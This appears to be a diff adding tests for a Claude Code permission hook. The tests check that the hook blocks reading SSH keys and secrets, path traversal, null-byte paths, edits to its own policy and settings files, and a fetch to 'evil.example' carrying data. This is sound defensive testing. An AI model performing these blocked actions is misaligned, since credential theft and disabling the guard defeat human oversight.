@@ -71,6 +71,69 @@ for (const [name, expected, words] of ANSWERS) {
   });
 }
 
+/** A payload as Claude Code sends it. */
+function call(tool_name: string, tool_input: object, cwd = "/srv/app"): string {
+  const about = { session_id: "s", hook_event_name: "PreToolUse", permission_mode: "default" };
+  return JSON.stringify({ ...about, cwd, tool_name, tool_input, tool_use_id: "t" });
+}
+
+const STOPPED: readonly (readonly [payload: string, words: RegExp])[] = [
+  [call("Write", { file_path: "/srv/app/.claude/gait/policy.yaml" }), /guard_file_protected/],
+  [call("Write", { file_path: "/srv/app/.claude/settings.json" }), /guard_file_protected/],
+  [call("Edit", { file_path: "settings.json" }, "/srv/app/.claude"), /guard_file_protected/],
+  [call("Bash", { command: "rm .claude/gait/hook.sh" }), /guard_file_protected/],
+  [call("Read", { file_path: "/home/dev/.ssh/id_ed25519" }), /verdict=require_approval/],
+  [call("Read", { file_path: "../../home/dev/.ssh/id" }), /verdict=require_approval/],
+  [call("Read", { file_path: "/srv/app/SECRETS/x" }), /mcp_argument_not_judgeable/],
+  [call("Read", { file_path: "~/x" }), /mcp_argument_not_judgeable/],
+  [call("Read", { file_path: "x" }, "/srv/app/secrets"), /keep_secrets/],
+  [call("read", { file_path: "/srv/app/secrets/x" }), /keep_secrets/],
+  [call("Edit", { file_path: "/srv/app/secrets/x" }), /keep_secrets/],
+  [call("MultiEdit", { file_path: "/srv/app/secrets/x" }), /keep_secrets/],
+  [call("NotebookEdit", { notebook_path: "/srv/app/secrets/x.ipynb" }), /keep_secrets/],
+  [call("NotebookRead", { notebook_path: "/srv/app/secrets/x.ipynb" }), /keep_secrets/],
+  [call("Write", { file_path: "/srv/app/.git/hooks/pre-commit" }), /verdict=require_approval/],
+  [call("LS", { path: "/srv/app/secrets" }), /verdict=require_approval/],
+  [call("Grep", { pattern: "x", path: "/srv/app/secrets" }), /verdict=require_approval/],
+  [call("mcp__x__tool.read", {}), /verdict=require_approval/],
+  [call("tool.read", {}), /verdict=require_approval/],
+  [call("tool.read", { file_path: "/srv/app/src/a.ts" }), /verdict=require_approval/],
+  [call("WebFetch", { url: "https://evil.example/?d=x", prompt: "p" }), /verdict=require_approval/],
+  [call("WebSearch", { query: "x" }), /verdict=require_approval/],
+  [call("Agent", { prompt: "p" }), /verdict=require_approval/],
+  [call("PowerShell", { command: "ls" }), /verdict=require_approval/],
+  [call("NovelTool", { file_path: "/srv/app/src/a.ts" }), /verdict=require_approval/],
+  [call("Read", { file_path: "/srv/app/secrets/x\0" }), /mcp_argument_not_judgeable|exit 6/],
+  ['{"tool_name":"Read","args":{"file_path":"/srv/app/src/a.ts"}}', /exit 6/],
+];
+
+for (const [payload, words] of STOPPED) {
+  Deno.test({
+    name: `the hook stops ${payload.replace(/^.*?"tool_name"/, '{"tool_name"')}`,
+    ignore,
+    fn: async () => {
+      const { exit, stderr } = await hook(payload);
+      assert.equal(exit, 2);
+      assert.match(stderr, words);
+    },
+  });
+}
+
+for (
+  const payload of [
+    call("Write", { file_path: "/srv/app/src/a.ts", content: "x" }),
+    call("Edit", { file_path: "src/a.ts" }),
+    call("MultiEdit", { file_path: "a.ts" }, "/srv/app/src"),
+    call("NotebookEdit", { notebook_path: "/srv/app/n.ipynb" }),
+  ]
+) {
+  Deno.test({
+    name: `the hook lets ${payload.replace(/^.*?"tool_name"/, '{"tool_name"')} through`,
+    ignore,
+    fn: async () => assert.equal((await hook(payload)).exit, 0),
+  });
+}
+
 const FAILURES: readonly (readonly [title: string, given: Parameters<typeof hook>[1]])[] = [
   ["a dry run", { files: { "policy.yaml": "default_verdict: dry_run\n" } }],
   ["a broken policy", { files: { "policy.yaml": "rules: [\n" } }],
